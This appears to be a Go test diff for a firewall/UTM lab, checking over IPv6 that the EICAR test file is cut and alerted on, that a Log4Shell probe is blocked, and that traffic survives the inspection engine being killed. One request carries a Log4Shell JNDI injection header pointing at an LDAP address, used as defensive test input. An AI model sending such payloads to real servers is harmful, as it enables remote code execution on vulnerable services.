@@ -299,3 +299,74 @@ func TestLabMonitorOutage(t *testing.T) {
 		t.Fatalf("monitor holds %d AV alerts, want exactly %d", got, n)
 	}
 }
+
+// TestLabIPv6 runs the AV, IPS and benign cases over IPv6 end to end.
+func TestLabIPv6(t *testing.T) {
+	l := newLab(t)
+	w := WatchAlerts(nil)
+	defer w.Stop()
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+
+	r, err := l.Fetch(ctx, "http://"+WebDomain6+"/eicar.com", "--timeout", "5s")
+	if err != nil || r.Complete || r.SHA256 == SHA256(EICAR) {
+		t.Fatalf("EICAR over IPv6: %+v %v; want the transfer cut", r, err)
+	}
+	a, ok := w.WaitSID(0, SIDAV, 10*time.Second)
+	if !ok || a.Stars != 3 || a.SrcIP != WebIP6 || a.DestIP != ClientIP6 {
+		t.Fatalf("AV alert over IPv6: %+v (found %v); want ★★★ from %s to %s", a, ok, WebIP6, ClientIP6)
+	}
+
+	from := w.Count()
+	r, err = l.Fetch(ctx, "http://"+WebDomain6+"/search", "--timeout", "3s", "--header", "X-Api-Version: ${jndi:ldap://198.18.2.66/a}")
+	if err != nil || r.Status != 0 {
+		t.Fatalf("Log4Shell over IPv6 was answered: %+v %v", r, err)
+	}
+	if _, ok := w.WaitSID(from, SIDLog4Shell, 10*time.Second); !ok {
+		t.Fatal("no IPS alert for Log4Shell over IPv6")
+	}
+
+	from = w.Count()
+	const size = 2_000_000
+	r, err = l.Fetch(ctx, fmt.Sprintf("http://%s/big.bin?size=%d", WebDomain6, size), "--timeout", "20s")
+	if err != nil || !r.Complete || r.SHA256 != SHA256(BigBody(size)) {
+		t.Fatalf("benign download over IPv6: %+v %v", r, err)
+	}
+	time.Sleep(1500 * time.Millisecond) // an alert would have arrived by now
+	if n := w.Count() - from; n != 0 {
+		t.Fatalf("benign IPv6 download raised %d alerts: %+v", n, w.All()[from:])
+	}
+}
+
+// TestLabEngineDeathGap measures what the office notices when utmd dies:
+// a request every 20 ms through the box, utmd killed in the middle; the
+// longest stretch without an answer must stay under one second.
+func TestLabEngineDeathGap(t *testing.T) {
+	l := newLab(t)
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	type result struct {
+		r   ProbeResult
+		err error
+	}
+	done := make(chan result, 1)
+	go func() {
+		r, err := l.Probe(ctx, "http://"+WebIP+"/index.html", 20*time.Millisecond, 6*time.Second)
+		done <- result{r, err}
+	}()
+	time.Sleep(2 * time.Second)
+	if err := l.KillUTMD(); err != nil {
+		t.Fatal(err)
+	}
+	res := <-done
+	if res.err != nil {
+		t.Fatal(res.err)
+	}
+	t.Logf("probe across the engine's death: %d sent, %d answered, longest gap %d ms", res.r.Sent, res.r.OK, res.r.MaxGapMS)
+	if res.r.OK < res.r.Sent*9/10 {
+		t.Errorf("only %d of %d requests answered", res.r.OK, res.r.Sent)
+	}
+	if res.r.MaxGapMS >= 1000 {
+		t.Errorf("the office's traffic stopped for %d ms when utmd died; want under 1000 ms", res.r.MaxGapMS)
+	}
+}
